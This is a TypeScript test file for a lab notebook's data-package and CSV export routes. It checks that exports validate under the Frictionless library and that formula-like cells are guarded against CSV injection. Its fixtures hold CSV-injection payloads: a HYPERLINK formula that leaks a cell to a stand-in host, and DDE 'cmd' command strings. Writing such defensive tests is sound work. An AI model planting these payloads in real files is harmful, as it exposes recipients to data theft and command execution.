// Every trial's data package read by the Frictionless reference library for JavaScript (npm
// `datapackage`, Frictionless Data, Data Package specification v1 with Table Schema v1): the
// descriptor is valid, every row of every table casts to its field types (Table Schema's default
// datetime format %Y-%m-%dT%H:%M:%SZ included) and every foreign key resolves. A trial whose
// notes, names and instrument hold spreadsheet formulas is exported with those cells guarded
// (OWASP "CSV Injection") while its negative numbers still read as numbers.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { asc, eq, inArray } from "drizzle-orm";
import { Package } from "datapackage";
import JSZip from "jszip";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { closeDb, db } from "@/db/client";
import * as s from "@/db/schema";
import { buildTrialDataPackage } from "@/db/queries/analysis";
import { getTrial } from "@/db/queries/trial-access";
import { readSessionIdentity } from "@/lib/auth/session";
import { GET as getCsv } from "@/app/api/trials/[trialId]/export/outcomes.csv/route";
import { GET as getZip } from "@/app/api/trials/[trialId]/export/datapackage.zip/route";
import { createTestLab, type TestLab } from "../support/db";
import { buildHandTrial, type HandTrial } from "./analysis-fixtures";

vi.mock("@/lib/auth/session", () => ({ readSessionIdentity: vi.fn() }));
const session = vi.mocked(readSessionIdentity);

const FORMULAS = {
  inspectionNotes: '=HYPERLINK("http://evil.test/?leak="&A1,"Open")',
  chamberName: "+cmd|' /C calc'!A0",
  specimenLabel: "-2+3+cmd|' /C calc'!A0",
  instrument: "@SUM(1+1)*cmd|' /C calc'!A0",
  scoreNotes: "\t=1+1",
};

let lab: TestLab;
let hand: HandTrial;
let tmp: string;

beforeAll(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), "rustline-frictionless-"));
  lab = await createTestLab("Frictionless lab");
  hand = await buildHandTrial(lab);
  // What a careless or hostile member could type into the notebook.
  await db.update(s.inspections).set({ notes: FORMULAS.inspectionNotes }).where(eq(s.inspections.trialId, hand.trialId));
  await db.update(s.chambers).set({ name: `${FORMULAS.chamberName} ${hand.chamberId.slice(0, 6)}` }).where(eq(s.chambers.id, hand.chamberId));
  await db.update(s.specimens).set({ label: `${FORMULAS.specimenLabel} ${hand.trialId.slice(0, 6)}` }).where(eq(s.specimens.id, hand.specimens.unscored));
  await db.update(s.readings).set({ instrument: FORMULAS.instrument, tempC: -2.5 }).where(eq(s.readings.chamberId, hand.chamberId));
  // Scores keep sub-second update times in the database.
  await db.update(s.scores).set({ notes: FORMULAS.scoreNotes, updatedAt: new Date("2026-02-02T10:11:12.345Z") }).where(eq(s.scores.trialId, hand.trialId));
});
afterAll(async () => {
  fs.rmSync(tmp, { recursive: true, force: true });
  await closeDb();
});

async function loadWithLibrary(zipBytes: Uint8Array, name: string) {
  const file = path.join(tmp, `${name}.zip`);
  fs.writeFileSync(file, zipBytes);
  return Package.load(file);
}

/** Reads every resource with casting and foreign keys; the library throws at the first bad row. */
async function readAll(pkg: Package) {
  const counts: Record<string, number> = {};
  for (const resource of pkg.resources) counts[resource.name] = (await resource.read({ cast: true, relations: true })).length;
  return counts;
}

const request = (p: string) => new Request(`http://localhost/api/trials/${hand.trialId}/export/${p}`);

describe("data packages read by the Frictionless library", () => {
  it("the package of a trial with formula-like text loads, casts and resolves, with the text cells guarded", async () => {
    session.mockResolvedValue(lab.as("observer") as never);
    const res = await getZip(request("datapackage.zip"), { params: Promise.resolve({ trialId: hand.trialId }) });
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    const pkg = await loadWithLibrary(bytes, "hand");
    expect(pkg.errors.map((e) => e.message)).toEqual([]);
    expect(pkg.valid).toBe(true);
    const counts = await readAll(pkg);
    expect(counts).toMatchObject({ trial: 1, specimens: 4, inspections: 5, scores: 14, readings: 2, outcomes: 4, exposure: 4 });

    const zip = await JSZip.loadAsync(bytes);
    const table = async (name: string) => {
      const rows = Papa.parse<string[]>((await zip.file(`data/${name}.csv`)!.async("string")).trimEnd()).data;
      const header = rows[0];
      return { col: (field: string) => rows.slice(1).map((r) => r[header.indexOf(field)]) };
    };
    expect(new Set((await table("inspections")).col("notes"))).toEqual(new Set([`'${FORMULAS.inspectionNotes}`]));
    expect((await table("chambers")).col("name")[0]).toMatch(/^'\+cmd/);
    expect((await table("specimens")).col("label")).toContain(`'${FORMULAS.specimenLabel} ${hand.trialId.slice(0, 6)}`);
    const readings = await table("readings");
    expect(new Set(readings.col("instrument"))).toEqual(new Set([`'${FORMULAS.instrument}`]));
    expect(new Set(readings.col("temp_c"))).toEqual(new Set(["-2.5"])); // a number, not guarded
    const scores = await table("scores");
    expect(new Set(scores.col("notes"))).toEqual(new Set([`'${FORMULAS.scoreNotes}`]));
    expect(new Set(scores.col("updated_at"))).toEqual(new Set(["2026-02-02T10:11:12Z"]));
    expect(await zip.file("README.md")!.async("string")).toMatch(/leading `'` guard/);
  });

  it("the package carries the specimens' history, row for row as the database holds it", async () => {
    const sp = hand.specimens;
    const own = { labId: lab.labId };
    await db.insert(s.specimens).values({ labId: lab.labId, label: `Not in the trial ${hand.trialId.slice(0, 6)}`, materialClass: "other" });
    const [outsider] = await db.select().from(s.specimens).where(eq(s.specimens.label, `Not in the trial ${hand.trialId.slice(0, 6)}`));
    await db.update(s.specimens).set({ parentPiece: "Corvenlow Tarn main mass", slice: "S3", provenance: "Tarrow collection, 1971" }).where(eq(s.specimens.id, sp.rustsAt3rd));
    await db.insert(s.chlorideTests).values([
      { ...own, specimenId: sp.rustsAt3rd, testedOn: "2025-11-02", method: "silver-nitrate-spot", result: "present", notes: "=1+1" },
      { ...own, specimenId: sp.neverRusts, testedOn: "2025-11-02", method: "chloride-strip", result: "absent" },
      { ...own, specimenId: outsider.id, testedOn: "2025-11-02", method: "other", result: "absent" },
    ]);
    await db.insert(s.akaganeiteChecks).values({ ...own, specimenId: sp.rustsAt3rd, checkedOn: "2025-11-03", method: "raman", seen: true });
    await db.insert(s.priorTreatments).values({ ...own, specimenId: sp.weepsAt2nd, treatedOn: "2025-10-20", treatment: "Rinsed in deionised water, dried" });
    await db.insert(s.massMeasurements).values([
      { ...own, specimenId: sp.rustsAt3rd, measuredOn: "2025-12-20", massG: "10.0123" },
      { ...own, specimenId: sp.rustsAt3rd, measuredOn: "2026-03-02", massG: "10.0131" },
      { ...own, specimenId: outsider.id, measuredOn: "2025-12-20", massG: "1.0000" },
    ]);

    session.mockResolvedValue(lab.as("observer") as never);
    const res = await getZip(request("datapackage.zip"), { params: Promise.resolve({ trialId: hand.trialId }) });
    const bytes = new Uint8Array(await res.arrayBuffer());
    const pkg = await loadWithLibrary(bytes, "hand-history");
    expect(pkg.errors.map((e) => e.message)).toEqual([]);
    // Read with casting and foreign keys: every history row names a specimen of specimens.csv.
    expect(await readAll(pkg)).toMatchObject({ chloride_tests: 2, akaganeite_checks: 1, prior_treatments: 1, mass_measurements: 2 });
    const read = async (name: string) => (await pkg.resources.find((x) => x.name === name)!.read({ keyed: true, cast: true })) as Record<string, unknown>[];
    const trialIds = Object.values(sp);
    const day = (d: unknown) => (d as Date).toISOString().slice(0, 10);
    const at = (d: unknown) => (d as Date).toISOString().slice(0, 19);

    const chloride = await db.select().from(s.chlorideTests).where(inArray(s.chlorideTests.specimenId, trialIds)).orderBy(asc(s.chlorideTests.specimenId));
    expect((await read("chloride_tests")).map((r) => [r.id, r.specimen_id, day(r.tested_on), r.method, r.result, r.notes ?? "", at(r.created_at)] /* an empty cell reads as missing */).sort())
      .toEqual(chloride.map((r) => [r.id, r.specimenId, r.testedOn, r.method, r.result, r.notes === "=1+1" ? "'=1+1" : r.notes, r.createdAt.toISOString().slice(0, 19)]).sort());
    const aka = await db.select().from(s.akaganeiteChecks).where(inArray(s.akaganeiteChecks.specimenId, trialIds));
    expect((await read("akaganeite_checks")).map((r) => [r.id, r.specimen_id, day(r.checked_on), r.method, r.seen])).toEqual(aka.map((r) => [r.id, r.specimenId, r.checkedOn, r.method, r.seen]));
    const treated = await db.select().from(s.priorTreatments).where(inArray(s.priorTreatments.specimenId, trialIds));
    expect((await read("prior_treatments")).map((r) => [r.id, r.specimen_id, day(r.treated_on), r.treatment])).toEqual(treated.map((r) => [r.id, r.specimenId, r.treatedOn, r.treatment]));
    const weighed = await db.select().from(s.massMeasurements).where(inArray(s.massMeasurements.specimenId, trialIds)).orderBy(asc(s.massMeasurements.measuredOn));
    // The cell text is the stored numeric(12,4) exactly; the library casts it to a decimal.
    expect((await read("mass_measurements")).map((r) => [r.id, r.specimen_id, day(r.measured_on), String(r.mass_g)])).toEqual(weighed.map((r) => [r.id, r.specimenId, r.measuredOn, String(Number(r.massG))]));
    const zip = await JSZip.loadAsync(bytes);
    expect(await zip.file("data/mass_measurements.csv")!.async("string")).toContain(",2025-12-20,10.0123,");
    const specimensCsv = Papa.parse<Record<string, string>>((await zip.file("data/specimens.csv")!.async("string")).trimEnd(), { header: true }).data;
    expect(specimensCsv.find((r) => r.id === sp.rustsAt3rd)).toMatchObject({ parent_piece: "Corvenlow Tarn main mass", slice: "S3", provenance: "Tarrow collection, 1971" });
  });

  it("the outcomes CSV guards the same text cells", async () => {
    session.mockResolvedValue(lab.as("observer") as never);
    const res = await getCsv(request("outcomes.csv"), { params: Promise.resolve({ trialId: hand.trialId }) });
    const [header, ...rows] = Papa.parse<string[]>((await res.text()).trimEnd()).data;
    const labels = rows.map((r) => r[header.indexOf("specimen_label")]);
    const chambers = new Set(rows.map((r) => r[header.indexOf("chamber")]));
    expect(labels).toContain(`'${FORMULAS.specimenLabel} ${hand.trialId.slice(0, 6)}`);
    expect([...chambers].every((c) => c.startsWith("'+cmd"))).toBe(true);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("every trial in the database exports a package the library loads, casts and resolves", async () => {
    const all = await db.select({ id: s.trials.id, labId: s.trials.labId }).from(s.trials);
    expect(all.length).toBeGreaterThan(0);
    const failures: string[] = [];
    for (const { id, labId } of all) {
      const trial = await getTrial({ labId, trialId: id });
      const { zip } = await buildTrialDataPackage({ labId, trial });
      try {
        const pkg = await loadWithLibrary(zip, id);
        if (!pkg.valid) failures.push(`${id}: ${pkg.errors.map((e) => e.message).join("; ")}`);
        else await readAll(pkg);
      } catch (err) {
        failures.push(`${id}: ${(err as Error).message}`);
      }
    }
    expect(failures).toEqual([]);
  });
});
